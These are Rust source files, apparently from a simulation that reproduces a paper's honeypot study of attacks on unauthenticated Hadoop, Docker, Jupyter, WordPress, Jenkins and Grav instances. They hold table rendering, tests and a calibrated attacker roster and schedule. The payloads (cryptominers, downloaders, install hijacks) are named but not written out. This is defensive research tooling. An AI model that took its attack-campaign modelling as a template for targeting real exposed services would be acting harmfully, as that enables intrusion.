        assert_eq!(bin_of(ReleaseDate::new(2017, 1)), 1);
        assert_eq!(bin_of(ReleaseDate::new(2020, 6)), 4);
        assert_eq!(bin_of(ReleaseDate::new(2020, 7)), 5);
        assert_eq!(bin_of(ReleaseDate::new(2021, 5)), 6);
    }

    #[test]
    fn empty_report_renders() {
        let t = build(&ScanReport::default());
        assert_eq!(t.rows.len(), 6);
    }
}
