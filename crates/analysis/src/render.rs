//! ASCII rendering for tables and series.

/// A simple aligned ASCII table.
#[derive(Debug, Clone)]
pub struct Table {
    pub title: String,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

impl Table {
    pub fn new(title: impl Into<String>, headers: &[&str]) -> Self {
        Table {
            title: title.into(),
            headers: headers.iter().map(|h| h.to_string()).collect(),
            rows: Vec::new(),
        }
    }

    /// Append a row; shorter rows are padded with empty cells.
    pub fn row<S: ToString>(&mut self, cells: &[S]) {
        let mut row: Vec<String> = cells.iter().map(|c| c.to_string()).collect();
        while row.len() < self.headers.len() {
            row.push(String::new());
        }
        self.rows.push(row);
    }

    /// Render with aligned columns.
    pub fn render(&self) -> String {
        let cols = self.headers.len();
        let mut widths: Vec<usize> = self.headers.iter().map(|h| h.chars().count()).collect();
        for row in &self.rows {
            for (i, cell) in row.iter().enumerate().take(cols) {
                widths[i] = widths[i].max(cell.chars().count());
            }
        }
        let mut out = String::new();
        out.push_str(&format!("== {} ==\n", self.title));
        let fmt_row = |cells: &[String], widths: &[usize]| -> String {
            let mut line = String::new();
            for (i, cell) in cells.iter().enumerate().take(widths.len()) {
                let pad = widths[i] - cell.chars().count();
                line.push_str(cell);
                line.push_str(&" ".repeat(pad));
                if i + 1 < widths.len() {
                    line.push_str("  ");
                }
            }
            line.trim_end().to_string()
        };
        out.push_str(&fmt_row(&self.headers, &widths));
        out.push('\n');
        out.push_str(&"-".repeat(widths.iter().sum::<usize>() + 2 * (cols - 1)));
        out.push('\n');
        for row in &self.rows {
            out.push_str(&fmt_row(row, &widths));
            out.push('\n');
        }
        out
    }

    /// Render as a GitHub-flavored Markdown table (for embedding
    /// measured results in EXPERIMENTS.md-style documents).
    pub fn render_markdown(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!("### {}\n\n", self.title));
        out.push_str(&format!("| {} |\n", self.headers.join(" | ")));
        out.push_str(&format!("|{}\n", "---|".repeat(self.headers.len())));
        for row in &self.rows {
            out.push_str(&format!("| {} |\n", row.join(" | ")));
        }
        out
    }
}

/// Render a unit-interval series (e.g. "fraction still vulnerable") as a
/// sparkline using eighth-block characters.
pub fn sparkline(values: &[f64]) -> String {
    const BLOCKS: [char; 9] = [' ', '▁', '▂', '▃', '▄', '▅', '▆', '▇', '█'];
    values
        .iter()
        .map(|v| {
            let clamped = v.clamp(0.0, 1.0);
            BLOCKS[(clamped * 8.0).round() as usize]
        })
        .collect()
}

/// Format a fraction as a percentage with one decimal.
pub fn pct(numerator: u64, denominator: u64) -> String {
    if denominator == 0 {
        return "0.0%".to_string();
    }
    format!("{:.1}%", 100.0 * numerator as f64 / denominator as f64)
}

/// Thousands separator for counts.
pub fn grouped(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_renders_aligned() {
        let mut t = Table::new("Demo", &["App", "Hosts"]);
        t.row(&["WordPress", "1462625"]);
        t.row(&["Grav", "4"]);
        let s = t.render();
        assert!(s.contains("== Demo =="));
        let lines: Vec<&str> = s.lines().collect();
        // Column "Hosts" starts at the same offset everywhere.
        let header_pos = lines[1].find("Hosts").unwrap();
        let row_pos = lines[3].find("1462625").unwrap();
        assert_eq!(header_pos, row_pos);
    }

    #[test]
    fn short_rows_are_padded() {
        let mut t = Table::new("x", &["a", "b", "c"]);
        t.row(&["1"]);
        assert_eq!(t.rows[0].len(), 3);
        let _ = t.render();
    }

    #[test]
    fn sparkline_maps_extremes() {
        let s = sparkline(&[0.0, 0.5, 1.0, 2.0, -1.0]);
        let chars: Vec<char> = s.chars().collect();
        assert_eq!(chars[0], ' ');
        assert_eq!(chars[2], '█');
        assert_eq!(chars[3], '█', "clamped above");
        assert_eq!(chars[4], ' ', "clamped below");
    }

    #[test]
    fn markdown_rendering() {
        let mut t = Table::new("Demo", &["App", "Hosts"]);
        t.row(&["Grav", "4"]);
        let md = t.render_markdown();
        assert!(md.starts_with("### Demo\n\n| App | Hosts |\n|---|---|\n"));
        assert!(md.contains("| Grav | 4 |"));
    }

    #[test]
    fn formatting_helpers() {
        assert_eq!(pct(1, 4), "25.0%");
        assert_eq!(pct(0, 0), "0.0%");
        assert_eq!(grouped(1462625), "1,462,625");
        assert_eq!(grouped(42), "42");
        assert_eq!(grouped(1000), "1,000");
    }
}
