//! Unit-level tests of the honeypot-study tables over a hand-built
//! `StudyResult` (the integration tests cover the full study; these pin
//! the aggregation logic itself).

use nokeys_analysis::{fig3, fig4, table5, table6, table7, table8};
use nokeys_apps::AppId;
use nokeys_honeypot::cluster::cluster_actors;
use nokeys_honeypot::detect::Attack;
use nokeys_honeypot::StudyResult;
use nokeys_netsim::{SimDuration, SimTime};
use std::net::Ipv4Addr;

fn attack(app: AppId, ip: [u8; 4], hours: f64, payload: &str) -> Attack {
    let start = SimTime::HONEYPOT_START + SimDuration::seconds((hours * 3600.0) as i64);
    Attack {
        app,
        source: Ipv4Addr::from(ip),
        start,
        end: start,
        payloads: vec![payload.to_string()],
    }
}

/// Two Hadoop attackers and one Docker attacker; attacker "a" spans both
/// applications through a shared payload.
fn fixture() -> StudyResult {
    let attacks = vec![
        attack(AppId::Hadoop, [81, 2, 0, 1], 1.0, "payload-a"),
        attack(AppId::Hadoop, [81, 2, 0, 1], 5.0, "payload-a"),
        attack(AppId::Hadoop, [81, 2, 0, 2], 9.0, "payload-b"),
        attack(AppId::Docker, [81, 2, 0, 3], 2.0, "payload-a"),
    ];
    let actors = cluster_actors(&attacks);
    StudyResult {
        plan: nokeys_attack::study_plan(3),
        records: Vec::new(),
        attacks,
        actors,
        restores: Vec::new(),
    }
}

#[test]
fn table5_counts_the_fixture() {
    let t = table5::build(&fixture()).render();
    let hadoop_row = t.lines().find(|l| l.contains("Hadoop")).expect("row");
    // 3 attacks, 2 unique payloads, 2 IPs.
    assert!(hadoop_row.contains('3'), "{hadoop_row}");
    assert!(hadoop_row.contains('2'), "{hadoop_row}");
}

#[test]
fn table6_timing_for_the_fixture() {
    let timing = table6::timing(&fixture(), AppId::Hadoop).expect("attacked");
    assert!((timing.first - 1.0).abs() < 1e-9);
    // Gaps: 4h and 4h → average 4.
    assert!((timing.average - 4.0).abs() < 1e-9);
    // Unique attacks at 1.0 (payload-a) and 9.0 (payload-b); anchored at
    // the study start: gaps 1.0 and 8.0.
    assert!((timing.unique_shortest - 1.0).abs() < 1e-9);
    assert!((timing.unique_longest - 8.0).abs() < 1e-9);
    assert_eq!(table6::timing(&fixture(), AppId::Gocd), None);
}

#[test]
fn fig3_bins_attacks_into_days() {
    let tl = fig3::timeline(&fixture(), AppId::Hadoop);
    assert_eq!(tl.days.len(), 28);
    // All three Hadoop attacks land on day 0: payload-a (new), payload-a
    // again (repeated), payload-b (new) → (2 new, 1 repeated).
    assert_eq!(tl.days[0], (2, 1));
    assert!(tl.days[1..].iter().all(|d| *d == (0, 0)));
}

#[test]
fn fig4_lists_multi_app_actors() {
    let rendered = fig4::build(&fixture()).render();
    // payload-a links Hadoop ip .1 and Docker ip .3 into one actor.
    assert!(rendered.contains("Docker + Hadoop"), "{rendered}");
}

#[test]
fn table7_and_8_use_plan_geo() {
    // The fixture's IPs come from the plan's pool, so geo lookups hit.
    let result = fixture();
    let t7 = table7::build(&result).render();
    let t8 = table8::build(&result).render();
    assert!(t7.contains("paper"));
    assert!(t8.contains("Serverion BV 469 (2)"), "{t8}");
}
