//! The attacker model.

use crate::payloads::Payload;
use nokeys_apps::AppId;
use nokeys_netsim::geo::GeoRecord;
use serde::Serialize;
use std::net::Ipv4Addr;

/// Stable attacker identity (ground truth; the honeypot analysis must
/// *re-derive* actors from payload/IP clustering).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
pub struct AttackerId(pub u32);

/// One attacker: a set of source IPs (with geo metadata), a payload
/// repertoire and target applications.
#[derive(Debug, Clone)]
pub struct Attacker {
    pub id: AttackerId,
    /// Human label for debugging/EXPERIMENTS.md ("hadoop-prime", ...).
    pub label: String,
    /// Source IP pool with geo records (attackers often operate from
    /// hosting providers; attacker I used 14 different IPs).
    pub ips: Vec<(Ipv4Addr, GeoRecord)>,
    /// Payload repertoire.
    pub payloads: Vec<Payload>,
    /// Applications this attacker targets.
    pub targets: Vec<AppId>,
}

impl Attacker {
    /// Source IP used for the `n`-th attack (round-robin over the pool).
    pub fn ip_for_attack(&self, n: usize) -> Ipv4Addr {
        self.ips[n % self.ips.len()].0
    }

    /// Payload used for the `n`-th attack (round-robin).
    pub fn payload_for_attack(&self, n: usize) -> &Payload {
        &self.payloads[n % self.payloads.len()]
    }

    /// Whether this attacker targets at least two applications (the
    /// Figure 4 population).
    pub fn is_multi_target(&self) -> bool {
        self.targets.len() >= 2
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_netsim::geo::{AsInfo, CountryCode};

    fn geo() -> GeoRecord {
        GeoRecord {
            country: CountryCode("Netherlands"),
            asys: AsInfo {
                asn: 211252,
                name: "Serverion BV",
                hosting: true,
            },
        }
    }

    #[test]
    fn round_robin_over_pools() {
        let a = Attacker {
            id: AttackerId(1),
            label: "t".into(),
            ips: vec![
                (Ipv4Addr::new(203, 0, 113, 1), geo()),
                (Ipv4Addr::new(203, 0, 113, 2), geo()),
            ],
            payloads: vec![
                Payload::kinsing(1),
                Payload::kinsing(2),
                Payload::kinsing(3),
            ],
            targets: vec![AppId::Hadoop, AppId::Docker],
        };
        assert_eq!(a.ip_for_attack(0), Ipv4Addr::new(203, 0, 113, 1));
        assert_eq!(a.ip_for_attack(1), Ipv4Addr::new(203, 0, 113, 2));
        assert_eq!(a.ip_for_attack(2), Ipv4Addr::new(203, 0, 113, 1));
        assert_eq!(a.payload_for_attack(4).name, "kinsing-v2");
        assert!(a.is_multi_target());
    }
}
