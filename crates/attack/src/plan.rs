//! The calibrated four-week attack schedule.
//!
//! The roster below is constructed so that *detected* attacks (after the
//! honeypot's 15-minute source-IP grouping and payload clustering)
//! reproduce the paper's Section 4 numbers:
//!
//! * Table 5 per application — attacks / unique attacks / unique IPs:
//!   Jenkins 4/3/3, WordPress 9/4/5, GravCMS 1/1/1, Docker 132/12/22,
//!   Hadoop 1921/49/81, J-Lab 29/13/13, J-Notebook 99/50/50;
//!   totals 2,195 attacks, 122 unique attacks, 160 unique IPs (the
//!   totals are not column sums because multi-application attackers
//!   share payloads and IPs across targets).
//! * Table 6 first-compromise times (Hadoop 0.8 h, WordPress 2.8 h,
//!   Docker 6.7 h, J-Notebook 48 h, J-Lab 133.7 h, Jenkins 172.4 h,
//!   GravCMS 355.1 h).
//! * RQ6 concentration: the top attacker performs 719 attacks on Hadoop,
//!   the top five 1,492 (67%), the top ten 1,845 (84%); attacker II
//!   (Hadoop+Docker) performs 326 attacks, attacker III 35, and
//!   attacker I (Docker+J-Notebook) uses 14 distinct IPs.

use crate::actor::{Attacker, AttackerId};
use crate::payloads::Payload;
use nokeys_apps::AppId;
use nokeys_netsim::clock::{SimDuration, SimTime};
use nokeys_netsim::geo::{GeoRecord, ATTACKER_MIX};
use serde::Serialize;
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// One scheduled attack.
#[derive(Debug, Clone, Serialize)]
pub struct PlannedAttack {
    /// Absolute virtual time (the honeypot study starts at
    /// [`SimTime::HONEYPOT_START`]).
    pub time: SimTime,
    pub attacker: AttackerId,
    pub ip: Ipv4Addr,
    pub geo: GeoRecord,
    pub app: AppId,
    pub payload: Payload,
}

/// The full plan.
#[derive(Debug)]
pub struct StudyPlan {
    pub attackers: Vec<Attacker>,
    /// Attacks sorted by time.
    pub attacks: Vec<PlannedAttack>,
}

impl StudyPlan {
    /// Attacks against `app`.
    pub fn attacks_on(&self, app: AppId) -> impl Iterator<Item = &PlannedAttack> {
        self.attacks.iter().filter(move |a| a.app == app)
    }

    /// Distinct source IPs used against `app`.
    pub fn ips_on(&self, app: AppId) -> usize {
        let mut ips: Vec<Ipv4Addr> = self.attacks_on(app).map(|a| a.ip).collect();
        ips.sort();
        ips.dedup();
        ips.len()
    }

    /// Distinct payloads used against `app`.
    pub fn payloads_on(&self, app: AppId) -> usize {
        let mut p: Vec<&str> = self
            .attacks_on(app)
            .map(|a| a.payload.command.as_str())
            .collect();
        p.sort();
        p.dedup();
        p.len()
    }
}

/// Per-application schedule targets (Table 6 "First" column + volume).
struct AppSchedule {
    app: AppId,
    count: usize,
    /// Explicit times in hours after study start, or `None` to generate.
    explicit_hours: Option<&'static [f64]>,
    first_hour: f64,
    /// Shape of generated times: `Linear` evenly spaced with jitter,
    /// `Accelerating` sparse at first, dense at the end (J-Lab).
    accelerating: bool,
}

const STUDY_HOURS: f64 = 671.0;

fn app_schedules() -> Vec<AppSchedule> {
    vec![
        AppSchedule {
            app: AppId::Hadoop,
            count: 1921,
            explicit_hours: None,
            first_hour: 0.8,
            accelerating: false,
        },
        AppSchedule {
            app: AppId::Docker,
            count: 132,
            explicit_hours: None,
            first_hour: 6.7,
            accelerating: false,
        },
        AppSchedule {
            app: AppId::JupyterNotebook,
            count: 99,
            explicit_hours: None,
            first_hour: 48.0,
            accelerating: false,
        },
        AppSchedule {
            app: AppId::JupyterLab,
            count: 29,
            explicit_hours: None,
            first_hour: 133.7,
            accelerating: true,
        },
        AppSchedule {
            app: AppId::WordPress,
            count: 9,
            explicit_hours: Some(&[2.8, 210.0, 290.0, 340.0, 453.8, 500.0, 540.0, 560.0, 568.4]),
            first_hour: 2.8,
            accelerating: false,
        },
        AppSchedule {
            app: AppId::Jenkins,
            count: 4,
            explicit_hours: Some(&[172.4, 262.5, 500.0, 652.1]),
            first_hour: 172.4,
            accelerating: false,
        },
        AppSchedule {
            app: AppId::Grav,
            count: 1,
            explicit_hours: Some(&[355.1]),
            first_hour: 355.1,
            accelerating: false,
        },
    ]
}

/// xorshift64* — deterministic, version-stable PRNG for the planner.
struct Prng(u64);

impl Prng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
}

/// Allocation of one attacker against one application.
struct Allocation {
    attacker: usize,
    app: AppId,
    count: usize,
    /// Indices into the attacker's IP pool usable for this app.
    ip_indices: Vec<usize>,
    /// Payloads usable for this app.
    payloads: Vec<Payload>,
}

struct RosterBuilder {
    attackers: Vec<Attacker>,
    allocations: Vec<Allocation>,
    next_ip: u32,
}

impl RosterBuilder {
    fn new() -> Self {
        RosterBuilder {
            attackers: Vec::new(),
            allocations: Vec::new(),
            next_ip: 0,
        }
    }

    fn fresh_ip(&mut self) -> Ipv4Addr {
        let i = self.next_ip;
        self.next_ip += 1;
        // 81.2.0.0/16 region — outside the simulated universe space.
        Ipv4Addr::new(81, 2, (i / 250) as u8, (1 + i % 250) as u8)
    }

    /// Add an attacker with `n_ips` fresh addresses. Geo records are
    /// attached later by the quota assignment.
    fn attacker(&mut self, label: &str, n_ips: usize) -> usize {
        let idx = self.attackers.len();
        let placeholder = GeoRecord {
            country: nokeys_netsim::geo::CountryCode("Unassigned"),
            asys: nokeys_netsim::geo::AsInfo {
                asn: 0,
                name: "Unassigned",
                hosting: false,
            },
        };
        let ips: Vec<(Ipv4Addr, GeoRecord)> =
            (0..n_ips).map(|_| (self.fresh_ip(), placeholder)).collect();
        self.attackers.push(Attacker {
            id: AttackerId(idx as u32),
            label: label.to_string(),
            ips,
            payloads: Vec::new(),
            targets: Vec::new(),
        });
        idx
    }

    fn allocate(
        &mut self,
        attacker: usize,
        app: AppId,
        count: usize,
        ip_indices: Vec<usize>,
        payloads: Vec<Payload>,
    ) {
        assert!(!ip_indices.is_empty() && !payloads.is_empty());
        let a = &mut self.attackers[attacker];
        if !a.targets.contains(&app) {
            a.targets.push(app);
        }
        for p in &payloads {
            if !a.payloads.contains(p) {
                a.payloads.push(p.clone());
            }
        }
        self.allocations.push(Allocation {
            attacker,
            app,
            count,
            ip_indices,
            payloads,
        });
    }
}

/// Build the calibrated roster. See the module docs for the accounting.
fn build_roster() -> RosterBuilder {
    use AppId::*;
    let mut b = RosterBuilder::new();
    let mut dl = 0u32; // fresh downloader payload counter

    let fresh = |dl: &mut u32| {
        *dl += 1;
        Payload::downloader(*dl)
    };

    // --- Named attackers (ranks 1-11 by attack count, then IV..X) ---
    let r1 = b.attacker("hadoop-prime", 3);
    b.allocate(
        r1,
        Hadoop,
        719,
        vec![0, 1, 2],
        vec![Payload::kinsing(1), Payload::kinsing(2)],
    );

    let r2 = b.attacker("att-II", 5);
    let ii_payloads = vec![Payload::kinsing(3), Payload::kinsing(4)];
    b.allocate(r2, Hadoop, 250, vec![0, 1, 2, 3, 4], ii_payloads.clone());
    b.allocate(r2, Docker, 76, vec![0, 1, 2, 3], ii_payloads);

    let r3 = b.attacker("hadoop-kinsing2", 4);
    b.allocate(
        r3,
        Hadoop,
        200,
        vec![0, 1, 2, 3],
        vec![Payload::kinsing(5), fresh(&mut dl)],
    );

    let r4 = b.attacker("hadoop-kinsing3", 3);
    b.allocate(
        r4,
        Hadoop,
        147,
        vec![0, 1, 2],
        vec![Payload::kinsing(7), Payload::kinsing(8)],
    );

    let r5 = b.attacker("hadoop-5", 2);
    b.allocate(r5, Hadoop, 100, vec![0, 1], vec![fresh(&mut dl)]);
    let r6 = b.attacker("hadoop-6", 2);
    b.allocate(r6, Hadoop, 100, vec![0, 1], vec![fresh(&mut dl)]);
    let r7 = b.attacker("hadoop-7", 2);
    b.allocate(r7, Hadoop, 95, vec![0, 1], vec![fresh(&mut dl)]);
    let r8 = b.attacker("hadoop-8", 2);
    b.allocate(r8, Hadoop, 91, vec![0, 1], vec![fresh(&mut dl)]);

    let r9 = b.attacker("att-III", 2);
    let iii_payload = vec![Payload::kinsing(6)];
    b.allocate(r9, Docker, 20, vec![0, 1], iii_payload.clone());
    b.allocate(r9, Hadoop, 15, vec![0, 1], iii_payload);

    let r10 = b.attacker("hadoop-10", 1);
    b.allocate(r10, Hadoop, 32, vec![0], vec![fresh(&mut dl)]);

    // Attacker I: most IPs (14), Docker + J-Notebook, distinct payloads
    // per app (so nothing double-counts in the unique-attack totals).
    let r11 = b.attacker("att-I", 14);
    b.allocate(r11, Docker, 15, vec![0, 1], vec![fresh(&mut dl)]);
    b.allocate(
        r11,
        JupyterNotebook,
        15,
        (0..14).collect(),
        vec![fresh(&mut dl)],
    );

    // IV..X: small dual-application actors (Figure 4's tail).
    let duals: [(&str, AppId, usize, AppId, usize); 7] = [
        ("att-IV", JupyterLab, 3, JupyterNotebook, 3),
        ("att-V", Hadoop, 2, Docker, 2),
        ("att-VI", JupyterLab, 2, JupyterNotebook, 2),
        ("att-VII", Hadoop, 2, Docker, 1),
        ("att-VIII", JupyterLab, 2, JupyterNotebook, 2),
        ("att-IX", Hadoop, 2, Docker, 1),
        ("att-X", JupyterLab, 2, JupyterNotebook, 2),
    ];
    for (label, app_a, n_a, app_b, n_b) in duals {
        let idx = b.attacker(label, 1);
        let payload = vec![fresh(&mut dl)];
        b.allocate(idx, app_a, n_a, vec![0], payload.clone());
        b.allocate(idx, app_b, n_b, vec![0], payload);
    }

    // --- Small single-application attackers ---
    // Payloads and IPs are shared only *within* an actor, so the
    // honeypot's payload/IP clustering can recover actors exactly.
    // Hadoop: 32 actors, 166 attacks, 32 fresh payloads, 52 IPs
    // (20 actors operate from two addresses). Actor 0 is the paper's
    // narrated case study: a Monero miner with cron persistence that
    // kills competitors, observed 4 times from 2 addresses.
    for i in 0..32usize {
        let n_ips = if i < 20 { 2 } else { 1 };
        let label = if i == 0 {
            "monero-cron".to_string()
        } else {
            format!("hadoop-small-{i}")
        };
        let idx = b.attacker(&label, n_ips);
        let count = match i {
            0 => 4,
            1 => 8,
            2..=5 => 6,
            _ => 5,
        };
        let payload = if i == 0 {
            Payload::monero_miner(1)
        } else {
            fresh(&mut dl)
        };
        b.allocate(idx, Hadoop, count, (0..n_ips).collect(), vec![payload]);
    }
    // Docker: 5 actors, 17 attacks, 5 fresh payloads, 11 IPs.
    let docker_small: [(usize, usize); 5] = [(3, 5), (2, 3), (2, 3), (2, 3), (2, 3)];
    for (i, (n_ips, count)) in docker_small.into_iter().enumerate() {
        let idx = b.attacker(&format!("docker-small-{i}"), n_ips);
        let payload = fresh(&mut dl);
        b.allocate(idx, Docker, count, (0..n_ips).collect(), vec![payload]);
    }
    // J-Notebook: 32 attackers, 75 attacks, 45 fresh payloads
    // (13 attackers bring two variants).
    for i in 0..32usize {
        let idx = b.attacker(&format!("jnb-small-{i}"), 1);
        let count = if i < 11 { 3 } else { 2 };
        let payloads = if i < 13 {
            vec![fresh(&mut dl), fresh(&mut dl)]
        } else {
            vec![fresh(&mut dl)]
        };
        b.allocate(idx, JupyterNotebook, count, vec![0], payloads);
    }
    // J-Lab: 9 attackers, 20 attacks, 9 fresh payloads — including the
    // vigilante who only runs `shutdown`.
    for i in 0..9usize {
        let idx = b.attacker(&format!("jlab-small-{i}"), 1);
        let count = if i < 2 { 3 } else { 2 };
        let payload = if i == 0 {
            Payload::vigilante()
        } else {
            fresh(&mut dl)
        };
        b.allocate(idx, JupyterLab, count, vec![0], vec![payload]);
    }
    // WordPress: 4 actors, 9 attacks, 4 distinct payloads, 5 IPs
    // (the first actor operates from two addresses).
    let wp_small: [(usize, usize); 4] = [(2, 3), (1, 2), (1, 2), (1, 2)];
    for (i, (n_ips, count)) in wp_small.into_iter().enumerate() {
        let idx = b.attacker(&format!("wp-{i}"), n_ips);
        let payload = Payload::install_hijack(i as u32 + 1);
        b.allocate(
            idx,
            AppId::WordPress,
            count,
            (0..n_ips).collect(),
            vec![payload],
        );
    }
    // Jenkins: 3 attackers, 4 attacks, 3 payloads.
    let jk_counts = [2usize, 1, 1];
    for (i, count) in jk_counts.into_iter().enumerate() {
        let idx = b.attacker(&format!("jenkins-{i}"), 1);
        b.allocate(idx, AppId::Jenkins, count, vec![0], vec![fresh(&mut dl)]);
    }
    // GravCMS: one attacker, one attack.
    let grav = b.attacker("grav-0", 1);
    b.allocate(
        grav,
        AppId::Grav,
        1,
        vec![0],
        vec![Payload::install_hijack(9)],
    );

    b
}

/// Generate the per-application attack times (hours after study start).
fn generate_times(schedule: &AppSchedule, rng: &mut Prng) -> Vec<f64> {
    if let Some(hours) = schedule.explicit_hours {
        return hours.to_vec();
    }
    let n = schedule.count;
    let span = STUDY_HOURS - schedule.first_hour;
    let mut times = Vec::with_capacity(n);
    for i in 0..n {
        let u = i as f64 / (n.max(2) - 1) as f64;
        let shaped = if schedule.accelerating {
            // Sparse first, dense at the end.
            1.0 - (1.0 - u) * (1.0 - u)
        } else {
            u
        };
        let base = schedule.first_hour + span * shaped;
        // ±30% of the local gap as jitter (never before the first
        // attack).
        let gap = span / n as f64;
        let jitter = (rng.unit() - 0.5) * 0.6 * gap;
        times.push(if i == 0 {
            base
        } else {
            (base + jitter).max(schedule.first_hour + 0.01)
        });
    }
    times.sort_by(|a, b| a.partial_cmp(b).expect("times are finite"));
    times
}

/// Minimum spacing between attacks from the same (ip, app) so the
/// 15-minute detection grouping counts each planned attack once.
const MIN_SAME_IP_GAP_HOURS: f64 = 0.27;

/// Build the complete, calibrated study plan. `seed` varies jitter and
/// dealing order without affecting any calibrated count.
pub fn study_plan(seed: u64) -> StudyPlan {
    let roster = build_roster();
    let mut rng = Prng(seed | 1);

    let mut attacks: Vec<PlannedAttack> = Vec::with_capacity(2195);
    for schedule in app_schedules() {
        let times = generate_times(&schedule, &mut rng);
        assert_eq!(
            times.len(),
            schedule.count,
            "{:?} schedule count",
            schedule.app
        );

        // Deal attack slots: each allocation contributes `count` slots;
        // shuffle deterministically so attackers interleave over time.
        let mut slots: Vec<usize> = Vec::with_capacity(schedule.count);
        for (alloc_idx, alloc) in roster.allocations.iter().enumerate() {
            if alloc.app == schedule.app {
                slots.extend(std::iter::repeat_n(alloc_idx, alloc.count));
            }
        }
        assert_eq!(
            slots.len(),
            schedule.count,
            "{:?}: roster allocations disagree with schedule",
            schedule.app
        );
        for i in (1..slots.len()).rev() {
            let j = (rng.next() % (i as u64 + 1)) as usize;
            slots.swap(i, j);
        }
        // The very first attack should come from the app's most active
        // attacker (the campaigns are the ones continuously scanning).
        if let Some(max_alloc) = roster
            .allocations
            .iter()
            .enumerate()
            .filter(|(_, a)| a.app == schedule.app)
            .max_by_key(|(_, a)| a.count)
            .map(|(i, _)| i)
        {
            if let Some(pos) = slots.iter().position(|s| *s == max_alloc) {
                slots.swap(0, pos);
            }
        }

        let mut seq_per_alloc: HashMap<usize, usize> = HashMap::new();
        let mut last_per_ip: HashMap<Ipv4Addr, f64> = HashMap::new();
        for (slot, hour) in slots.into_iter().zip(times) {
            let alloc = &roster.allocations[slot];
            let attacker = &roster.attackers[alloc.attacker];
            let seq = seq_per_alloc.entry(slot).or_insert(0);
            // Rotate payloads on every attack and IPs once per payload
            // cycle: every IP then carries every payload, so payload/IP
            // clustering cannot split an actor (a plain dual round-robin
            // with pool sizes sharing a divisor would lock the pairing).
            let ip_idx = (*seq / alloc.payloads.len()) % alloc.ip_indices.len();
            let ip = attacker.ips[alloc.ip_indices[ip_idx]].0;
            let payload = alloc.payloads[*seq % alloc.payloads.len()].clone();
            *seq += 1;

            // Enforce the same-IP spacing.
            let mut hour = hour;
            if let Some(last) = last_per_ip.get(&ip) {
                if hour - last < MIN_SAME_IP_GAP_HOURS {
                    hour = last + MIN_SAME_IP_GAP_HOURS;
                }
            }
            last_per_ip.insert(ip, hour);

            attacks.push(PlannedAttack {
                time: SimTime::HONEYPOT_START + SimDuration::seconds((hour * 3600.0) as i64),
                attacker: attacker.id,
                ip,
                geo: GeoRecord {
                    country: nokeys_netsim::geo::CountryCode("Unassigned"),
                    asys: nokeys_netsim::geo::AsInfo {
                        asn: 0,
                        name: "Unassigned",
                        hosting: false,
                    },
                },
                app: schedule.app,
                payload,
            });
        }
    }

    attacks.sort_by_key(|a| (a.time, a.ip, a.app));

    // --- Geo quota assignment (Tables 7/8) ---
    // Count attacks per IP, then greedily fill the calibrated quotas,
    // biggest IPs into the biggest remaining quota.
    let mut per_ip: HashMap<Ipv4Addr, u64> = HashMap::new();
    for a in &attacks {
        *per_ip.entry(a.ip).or_default() += 1;
    }
    let mut ips: Vec<(Ipv4Addr, u64)> = per_ip.into_iter().collect();
    ips.sort_by_key(|(ip, n)| (std::cmp::Reverse(*n), *ip));
    let mut quotas: Vec<(GeoRecord, i64)> = ATTACKER_MIX
        .iter()
        .map(|(c, a, w)| {
            (
                GeoRecord {
                    country: *c,
                    asys: *a,
                },
                *w as i64,
            )
        })
        .collect();
    let mut geo_of: HashMap<Ipv4Addr, GeoRecord> = HashMap::new();
    for (ip, n) in ips {
        let (best, _) = quotas
            .iter_mut()
            .enumerate()
            .max_by_key(|(_, (_, remaining))| *remaining)
            .expect("quota list is non-empty");
        geo_of.insert(ip, quotas[best].0);
        quotas[best].1 -= n as i64;
    }
    for a in &mut attacks {
        a.geo = geo_of[&a.ip];
    }

    // Attach geo records to the attacker IP pools too.
    let mut attackers = roster.attackers;
    for attacker in &mut attackers {
        for (ip, geo) in &mut attacker.ips {
            if let Some(rec) = geo_of.get(ip) {
                *geo = *rec;
            }
        }
    }

    StudyPlan { attackers, attacks }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plan() -> StudyPlan {
        study_plan(2022)
    }

    #[test]
    fn totals_match_table5() {
        let p = plan();
        assert_eq!(p.attacks.len(), 2195);
        let cases = [
            (AppId::Jenkins, 4, 3, 3),
            (AppId::WordPress, 9, 4, 5),
            (AppId::Grav, 1, 1, 1),
            (AppId::Docker, 132, 12, 22),
            (AppId::Hadoop, 1921, 49, 81),
            (AppId::JupyterLab, 29, 13, 13),
            (AppId::JupyterNotebook, 99, 50, 50),
        ];
        for (app, attacks, uniq, ips) in cases {
            assert_eq!(p.attacks_on(app).count(), attacks, "{app} attacks");
            assert_eq!(p.payloads_on(app), uniq, "{app} unique payloads");
            assert_eq!(p.ips_on(app), ips, "{app} unique IPs");
        }
        // Global distinct counts (shared across applications).
        let mut all_ips: Vec<Ipv4Addr> = p.attacks.iter().map(|a| a.ip).collect();
        all_ips.sort();
        all_ips.dedup();
        assert_eq!(all_ips.len(), 160, "total unique IPs");
        let mut all_payloads: Vec<&str> = p
            .attacks
            .iter()
            .map(|a| a.payload.command.as_str())
            .collect();
        all_payloads.sort();
        all_payloads.dedup();
        assert_eq!(all_payloads.len(), 122, "total unique payloads");
    }

    #[test]
    fn first_attack_times_match_table6() {
        let p = plan();
        let firsts = [
            (AppId::Hadoop, 0.8),
            (AppId::WordPress, 2.8),
            (AppId::Docker, 6.7),
            (AppId::JupyterNotebook, 48.0),
            (AppId::JupyterLab, 133.7),
            (AppId::Jenkins, 172.4),
            (AppId::Grav, 355.1),
        ];
        for (app, expected) in firsts {
            let first = p
                .attacks_on(app)
                .map(|a| a.time.since(SimTime::HONEYPOT_START).as_hours_f64())
                .fold(f64::INFINITY, f64::min);
            assert!(
                (first - expected).abs() < 0.35,
                "{app}: first attack at {first:.1}h, expected {expected}h"
            );
        }
    }

